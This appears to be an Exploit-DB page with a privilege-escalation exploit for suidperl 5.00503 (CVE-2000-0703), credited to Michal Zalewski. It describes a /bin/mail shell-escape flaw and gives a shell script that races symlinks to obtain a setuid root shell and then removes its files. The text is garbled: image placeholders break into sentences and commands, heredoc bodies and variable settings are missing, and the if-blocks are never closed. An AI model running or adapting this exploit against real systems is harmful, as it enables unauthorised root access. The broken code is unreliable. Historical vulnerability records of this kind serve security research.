Suidperl 5.00503 Mail Shell Escape Vulnerability 2

ID EDB-ID:20142
Type exploitdb
Reporter Michal Zalewski
Modified 2000-08-07T00:00:00


Suidperl 5.00503 Mail Shell Escape Vulnerability (2). CVE-2000-0703. Local exploit for linux platform

The interaction between some security checks performed by suidperl, the setuid version of perl, and the /bin/mail program creates a scenario that allows local malicious users to execute commands with root privileges.
The suidperl program performs a number of checks to make sure it can't be fooled into executing a perl script with root privileges when its not suid root. When one of these checks fails the program will compose a message to the root user. The mail message looks like this:
From: Bastard Operator <>
User 500 tried to run dev 769 ino 343180 in place of dev 769 ino 343183!
(Filename of set-id script was /some/thing, uid 500 gid 500.)
The name of the script to execute (inserted into the message) is taken from the program's argument list (argv[1]). suidperl executes /bin/mail to inject the message into the mail system. It does so without cleaning the environment or dropping its root privileges. The /bin/mail program has an undocumented feature. By setting the environmentvariable "interactive" to any value, /bin/mail will interpret the sequence "~!" as an escape sequence to start a shell and execute commands even when the program is not attached to a terminal. The environment variable "interactive" can be also set from ~/.mailrc with a "set interactive" line.
A malicous user can create a file with an escape sequence and commands embedded in the file name, then execute suidperl in such a way that the security check fails. suidperl will send a message to root via /bin/mail with the escape sequence embedded in the message. This will cause /bin/mail to start a root shell and execute the commands.


# Wonderful, lovely, world-smashing, exciting perl exploit. It works against
# +s suidperl, exploiting undocumented /bin/mail feature when perl wants to
# notify root on inode race conditions. Currently, tested under RH Linux.
# What's probably most shocking, buggy code has following comment inside:
# /* heh, heh */. I guess author wasn't laughning last.
# Development history of this exploit is really funny. I found this condition
# about 4 months ago, but thought it's useless (who wants to notify root?).
# I deleted my test code and didn't left any notes on it. Then, month after
# this discovery, Sebastian contacted me. He was working on perl exploit.
# He told me he don't know how to cause this condition to happen, but
# if he realise how he can do it, he'll be able to use undocumented /bin/mail
# feature -environmental variable 'interactive', which, if set, causes
# /bin/mail to interpret ~! commands (subshell requests) even if stdin is not
# on terminal. And then I understood what I've done. I spent next month
# (yes! no kidding!) trying to recall what the fsck was the condition. I
# remembered it was trivial, even annoying... And finally, now I'm able to
# reconstruct it.
# This exploit tries to fit in rather short, but reasonable time window in
# order to exploit it. I tested it on fast, not overloaded Linux box, and
# I guess on slow machines it needs tunning. It needs anything setuid
# (/usr/bin/passwd is just fine), writable working directory and something
# around 4 minutes. Working directory should be mounted without noexec or
# nosuid options (if so, find something like/var/lib/svgalib etc).
# WARNING: On slow machines, it's quite possible this exploit will cause
# heavy load. Please test it when system is not overloaded and not used
# (eg. at night).
# I'd like to thank Sebastian Krahmer for his help (in fact, HE discovered it
# - I think I can say it without shame), and especially thank to several of
# my braincells that survivedmonitor radiation and made me recall this
# race condition.
# Send comments, ideas and flames to <>
# Tested with sperl 5.00503, but should work with any other as well.
# Good luck and don't abuse it.


echo "Suidperl 5.00503 (and newer) root exploit"
echo "---"
echo "Written by Michal Zalewski <>"
echo "With great respect to Sebastian Krahmer..."


echo "[*] Usingsuidperl=$SUIDPERL, suidbin=$SUIDBIN..."

if [ ! -u $SUIDPERL ]; then
  echo "[-] Sorry, $SUIDPERL4 is NOT setuid on this system or"
  echo "    does not exist at all. If there's +s perl binary available,"
  echo "    please change SUIDPERL variable within exploit code."
  exit 0

if [ ! -u $SUIDBIN ]; then
  echo "[-] Sorry, $SUIDBIN is NOT setuid on this system or does not exist at"
  echo "    all. Please pick any other +s binary and change SUIDBIN variable"
  echo "    within exploit code."
  exit 0

echo "[+] Checks passed, compiling flares and helper applications..."

cat >flare <<__eof__

print "Nothing can stop me now...\n";


cat >bighole.c <<__eof__
main() {

cat >sush.c <<__eof__
main() {

make bighole sushif [ ! -x ./sush ]; then
  echo "[-] Oops, seems to me I cannot compile helper applications. Either"
  echo "    you don't have working 'make' or 'gcc' utility. If possible,"
  echo "    please compile bighole.c and sush.c manually (to bighole and sush)."
  exit 0

echo "[+] Setting up environment..."

chmod 4755 ./flare



export interactive=1

echo "[+] Starting exploit. It could take up to 5minutes in order to get"
echo"[+] working root shell. WARNING - WARNING - WARNING: it could cause"
echo "[+] heavy system load."

while :; do
  ( ln -f -s $SUIDBIN "$FILENAME";usleep $RANDOM; nice -n +20 $SUIDPERL ./"$FILENAME" <./flare & ) &>/dev/null &
  ( usleep $RANDOM ; ln -f -s /dev/stdin "$FILENAME" ) &>/dev/null &
  if [ -u ./sush ]; then
    echo "[+] VOILA, BABE:-) Entering rootshell..."
    rm -f "$FILENAME" sush.c bighole bighole.cflare
    echo "[+] Thank you for using MarchewIndustries / dupa.ryba products."
    rm -f "$FILENAME"sush.c bighole bighole.c flare sush
    exit 0